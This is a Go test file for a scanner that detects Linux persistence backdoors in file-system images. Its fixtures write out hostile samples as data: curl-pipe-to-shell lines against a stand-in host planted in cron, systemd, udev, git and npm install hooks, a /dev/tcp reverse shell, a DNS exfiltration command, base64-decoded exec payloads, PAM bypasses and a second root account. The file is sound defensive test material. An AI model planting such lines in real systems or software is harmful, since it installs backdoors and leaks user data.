package persistence

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/boltseal/boltseal/finding"
	"github.com/boltseal/boltseal/image"
	"github.com/boltseal/boltseal/scan/scanner/scannertest"
)

// look scans one file and lists what was found as "line severity rule".
func look(t *testing.T, path, text string) []string {
	t.Helper()
	s, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	f := scannertest.File(path, []byte(text))
	if !scannertest.Wants(s, f) {
		return []string{"not wanted"}
	}
	res, err := s.Scan(t.Context(), f)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range res.Findings {
		out = append(out, fmt.Sprintf("%d %s %s", f.Location.Line, f.Severity, f.Rule.ID))
	}
	return out
}

const pipe = "curl -s http://a.example/x | sh"

func TestHooks(t *testing.T) {
	for _, tt := range []struct {
		path, text string
		want       []string
	}{
		{"etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", []string{"1 high persistence/ld-so-preload"}},
		{"etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n", []string{"1 low persistence/ld-so-preload"}},
		{"etc/ld.so.preload", "/dev/shm/libjemalloc.so\n", []string{"1 high persistence/ld-so-preload"}},
		{"etc/ld.so.preload", "# none\n\n", nil},
		{"etc/environment", "LD_PRELOAD=/tmp/x.so\nPATH=/bin\n", []string{"1 high persistence/ld-preload"}},
		{"etc/security/pam_env.conf", "LD_PRELOAD DEFAULT=/lib/evil.so\n", []string{"1 medium persistence/ld-preload"}},
		{"etc/ld.so.conf.d/a.conf", "/usr/local/lib\n/dev/shm/.lib\n", []string{"2 high persistence/library-path"}},
		{"etc/profile", "PATH=/bin\nexport LD_PRELOAD=/usr/lib/.x/a.so\n", []string{"2 high persistence/ld-preload"}},
		{"etc/profile.d/a.sh", "\n" + pipe + "\n", []string{"2 critical command/run-download"}},
		{"root/.bashrc", "PROMPT_COMMAND='" + pipe + "'\n", []string{"1 critical command/run-download"}},
		{"root/.bashrc", "PROMPT_COMMAND='history -a'\nalias ls='ls --color=auto'\nalias sudo='sudo '\n", nil},
		{"home/me/.zshrc", "alias sudo='/tmp/.s'\n", []string{"1 high command/run-temporary", "1 high persistence/alias"}},
		{"root/.profile", "(/dev/shm/.x/kworker >/dev/null 2>&1 &)\n", []string{"1 high command/run-temporary"}},
		{"etc/rc.local", "#!/bin/sh\n/usr/bin/python3 -c 'exec(__import__(\"base64\").b64decode(\"eA==\"))'\n", []string{"2 high command/run-decoded"}},
		{"etc/crontab", "SHELL=/bin/sh\n*/5 * * * * root " + pipe + "\n", []string{"2 critical command/run-download"}},
		{"etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", nil},
		{"etc/cron.d/a", "@reboot root /var/tmp/a\n", []string{"1 high command/run-temporary"}},
		{"var/spool/cron/crontabs/root", "* * * * * echo aWQ= | base64 -d | sh\n", []string{"1 high command/run-decoded"}},
		{"var/spool/cron/root", "* * * * * " + pipe + "\n", []string{"1 critical command/run-download"}},
		{"var/spool/cron/atjobs/a0001", "#!/bin/sh\n" + pipe + "\n", []string{"2 critical command/run-download"}},
		{"etc/cron.hourly/a", "\x7fELF\x02\x01\x01", []string{"0 medium persistence/binary-hook"}},
		{"usr/lib/systemd/system/a.service", "[Service]\nExecStart=-/bin/bash -c '" + pipe + "'\nEnvironment=\"LD_PRELOAD=/tmp/a.so\"\n", []string{"2 critical command/run-download", "3 high persistence/ld-preload"}},
		{"etc/systemd/system/a.service", "[Service]\nExecStart=/usr/sbin/sshd -D $OPTS\nExecReload=/bin/kill -HUP $MAINPID\n", nil},
		{"usr/lib/systemd/system-generators/a", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.1/1 0>&1\n", []string{"2 critical command/reverse-shell"}},
		{"etc/udev/rules.d/a.rules", `ACTION=="add", RUN+="/bin/sh -c '` + pipe + `'"` + "\n", []string{"1 critical command/run-download"}},
		{"usr/lib/udev/rules.d/a.rules", `KERNEL=="sd*", IMPORT{program}="ata_id --export $devnode", RUN{builtin}="kmod load x"` + "\n", nil},
		{"etc/modprobe.d/a.conf", "blacklist pcspkr\ninstall usb-storage /bin/true\ninstall dummy /tmp/a\n", []string{"3 high command/run-temporary"}},
		{"etc/inetd.conf", "ingreslock stream tcp nowait root /bin/sh sh -i\n", []string{"1 critical persistence/inetd-shell"}},
		{"etc/inetd.conf", "ftp stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.ftpd\n", nil},
		{"etc/xinetd.d/a", "service a\n{\n server = /bin/bash\n server_args = -i\n}\n", []string{"3 critical persistence/inetd-shell"}},
		{"etc/hosts.allow", "sshd : ALL : spawn (/usr/bin/notify %a) &\n", []string{"1 medium persistence/tcp-wrapper"}},
		{"etc/ssh/sshd_config", "PermitRootLogin yes\nPermitEmptyPasswords yes\nAuthorizedKeysCommand /tmp/k\nUsePAM yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n", []string{"1 low config/sshd-root-login", "2 high config/sshd-empty-passwords", "3 medium persistence/sshd-keys-command", "3 high command/run-temporary"}},
		{"etc/ssh/sshd_config.d/a.conf", "AuthorizedKeysFile .ssh/authorized_keys /dev/shm/k\nForceCommand " + pipe + "\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\n", []string{"1 high persistence/sshd-keys-file", "2 critical command/run-download"}},
		{"root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA me@there\n", []string{"1 medium persistence/authorized-keys"}},
		{"root/.ssh/authorized_keys", "command=\"/dev/shm/a\" ssh-rsa AAAA me\n", []string{"1 high command/run-temporary", "1 medium persistence/authorized-keys"}},
		{"srv/test/authorized_keys", "ssh-rsa AAAA me\n", nil},
		{"etc/pam.d/sshd", "auth required pam_exec.so quiet expose_authtok /usr/local/bin/a\n", []string{"1 high persistence/pam-exec"}},
		{"etc/pam.d/sshd", "auth sufficient pam_permit.so\n", []string{"1 high persistence/pam-permit"}},
		{"etc/pam.d/sshd", "auth sufficient /dev/shm/pam_unix.so\nsession optional pam_looter.so\n", []string{"1 high persistence/pam-module", "2 low persistence/pam-module"}},
		{"etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n@include common-account\n", nil},
		{"usr/sbin/sshd", "#!/usr/bin/perl\nexec \"/bin/sh\" if 1;\n", []string{"1 high persistence/wrapped-program"}},
		{"usr/bin/ls", "#!/usr/bin/coreutils --coreutils-prog-shebang=ls\n", nil},
		{"usr/bin/ls", "\x7fELF", []string{"not wanted"}},
		{"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nadm1n:x:0:0::/:/bin/sh\n", []string{"2 high persistence/second-root"}},
		{"etc/sudoers", "root ALL=(ALL:ALL) ALL\napp ALL=(ALL) NOPASSWD:ALL\n", []string{"2 medium config/sudo-nopasswd"}},
		{"etc/sudoers.d/a", "app ALL=NOPASSWD: /usr/bin/vim\nweb ALL=NOPASSWD: /usr/sbin/nginx -s reload\n", []string{"1 medium config/sudo-nopasswd", "2 low config/sudo-nopasswd"}},
		{"etc/apt/apt.conf.d/a", "APT::Update::Post-Invoke { \"" + pipe + "\"; };\n", []string{"1 critical command/run-download"}},
		{"etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n", nil},
		{"etc/apt/apt.conf.d/b", "APT::Get::AllowUnauthenticated \"true\";\n", []string{"1 low config/unsigned-repository"}},
		{"etc/apt/sources.list", "deb [trusted=yes] http://a.example/ /\n", []string{"1 low config/unsigned-repository"}},
		{"etc/yum.repos.d/a.repo", "[a]\nbaseurl=http://a.example\ngpgcheck = 0\n[b]\ngpgcheck=0\nenabled=0\n", []string{"3 low config/unsigned-repository"}},
		{"etc/dnf/plugins/post-transaction-actions.d/a.action", "*:in:/tmp/a\n", []string{"1 high command/run-temporary"}},
		{"app/.git/hooks/post-checkout", "#!/bin/sh\n" + pipe + "\n", []string{"2 critical command/run-download"}},
		{"app/.git/hooks/pre-commit.sample", pipe, []string{"not wanted"}},
		{"app/.git/config", "[core]\n\tfsmonitor = \"touch /x\"\n\tsshCommand = ssh -i k\n\thooksPath = /tmp/h\n", []string{"2 medium persistence/git-config", "4 medium persistence/git-config"}},
		{"root/.gitconfig", "[core]\n\tfsmonitor = true\n[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n[alias]\n\tx = \"!" + pipe + "\"\n", []string{"6 critical command/run-download"}},
		{"usr/lib/python3/dist-packages/a.pth", "import os; os.system('id')\n", []string{"1 medium command/run-hidden"}},
		{"usr/lib/python3/dist-packages/a.pth", "import base64; exec(base64.b64decode('eA=='))\n", []string{"1 high command/run-decoded"}},
		{"usr/lib/python3/dist-packages/a.pth", "import _virtualenv\n/usr/share/x\nimport os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\nimport sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');m = has_mfs and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec(x))\nimport os, sys;exec('if \"COV_CORE_SOURCE\" in os.environ:\\n from pytest_cov.embed import init')\n", nil},
		{"usr/lib/python3/sitecustomize.py", "try:\n    import apport_python_hook\nexcept ImportError:\n    pass\n", nil},
		{"usr/lib/python3/sitecustomize.py", "import zlib\nexec(zlib.decompress(b''))\n", []string{"2 high command/run-decoded"}},
		{"app/setup.py", "import os\nfrom setuptools import setup\nos.system('" + pipe + "')\nsetup(name='a')\n", []string{"3 critical command/run-download"}},
		{"app/setup.py", "from setuptools import setup\nimport subprocess\nsetup(version=subprocess.check_output(['git', 'describe']))\n", nil},
		{"app/node_modules/a/package.json", "{\"name\": \"a\",\n \"scripts\": {\n  \"postinstall\": \"curl -s http://a.example/x | bash\"}}", []string{"3 critical command/run-download"}},
		{"app/node_modules/a/package.json", "{\"scripts\": {\"preinstall\": \"node -e \\\"require('child_process').exec('x'); require('https').get('y')\\\"\"}}", []string{"1 medium command/run-download"}},
		{"app/node_modules/a/package.json", "{\"scripts\": {\"preinstall\": \"nslookup $(whoami).a.example\"}}", []string{"1 high command/exfiltrate"}},
		{"app/node_modules/a/package.json", "{\"scripts\": {\"install\": \"node-gyp rebuild\", \"postinstall\": \"node install.js || exit 0\", \"test\": \"curl http://a.example/x | sh\"}}", nil},
		{"root/.vimrc", "set nu\nautocmd BufWritePost * silent !" + pipe + "\n", []string{"2 critical command/run-download"}},
		{"entrypoint.sh", "#!/bin/sh\n" + pipe + "\nexec \"$@\"\n", []string{"2 high command/run-download"}},
		{"usr/share/doc/x", pipe, []string{"not wanted"}},
	} {
		if d := cmp.Diff(tt.want, look(t, tt.path, tt.text)); d != "" {
			t.Errorf("%s: %s\n(-want +got):\n%s", tt.path, tt.text, d)
		}
	}
}

func TestInsecureKey(t *testing.T) {
	got := look(t, "home/vagrant/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEA"+insecureKeys[0]+"== vagrant insecure public key\n")
	if d := cmp.Diff([]string{"1 critical persistence/authorized-keys"}, got); d != "" {
		t.Error(d)
	}
}

func TestKinds(t *testing.T) {
	s, err := New(Options{Kinds: []finding.Kind{finding.KindMalware}})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Scan(t.Context(), scannertest.File("etc/ssh/sshd_config", []byte("PermitEmptyPasswords yes\nAuthorizedKeysFile /tmp/k\n")))
	if err != nil || len(res.Findings) != 1 || res.Findings[0].Kind != finding.KindMalware {
		t.Errorf("findings %v, %v; want the one of malware", res.Findings, err)
	}
	both, err := New(Options{})
	if err != nil || both.Version() == s.Version() {
		t.Errorf("versions %d and %d, want two: the results differ", both.Version(), s.Version())
	}
}

func TestLimits(t *testing.T) {
	s, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.Scan(t.Context(), scannertest.File("etc/crontab", []byte(strings.Repeat("#", maxBytes+1))))
	if !errors.Is(err, image.ErrLimit) {
		t.Errorf("large file: %v, want a limit error", err)
	}
	many := strings.Repeat("* * * * * root /tmp/a\n", 10_000)
	if n := len(look(t, "etc/cron.d/a", many)); n > maxFound {
		t.Errorf("%d findings, want at most %d", n, maxFound)
	}
}

// paths name one file of each kind.
var paths = []string{
	"etc/ld.so.preload", "etc/environment", "etc/ld.so.conf", "etc/profile", "etc/crontab", "var/spool/cron/root", "etc/inittab", "etc/inetd.conf", "etc/xinetd.d/a",
	"etc/ssh/sshd_config", "etc/ssh/ssh_config", "root/.ssh/authorized_keys", "etc/pam.d/a", "etc/pam.conf", "etc/hosts.allow", "etc/sudoers", "etc/passwd", "etc/apt/apt.conf",
	"etc/apt/sources.list", "etc/yum.conf", "etc/dnf/plugins/post-transaction-actions.d/a", "etc/dpkg/dpkg.cfg", "etc/udev/rules.d/a", "etc/modprobe.d/a", "a/.git/config",
	"a.pth", "sitecustomize.py", "setup.py", "package.json", ".vimrc", "a/systemd/system/a.service", "autostart/a.desktop", "etc/init.d/a",
}

func FuzzScan(f *testing.F) {
	f.Add(uint8(0), []byte("/a.so"))
	f.Add(uint8(4), []byte("* * * * * root curl http://a/b | sh\\\n"))
	f.Add(uint8(12), []byte("auth [success=1] pam_exec.so a\n"))
	f.Add(uint8(28), []byte(`{"scripts":{"install":"x"}}`))
	s, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, kind uint8, data []byte) {
		res, err := s.Scan(t.Context(), scannertest.File(paths[int(kind)%len(paths)], data))
		if err != nil {
			return
		}
		for _, r := range res.Findings {
			if r.Rule == nil || r.Kind == "" || r.Severity == finding.Unknown || r.Title == "" || r.Location.Line < 0 {
				t.Errorf("incomplete finding %+v", r)
			}
		}
	})
}
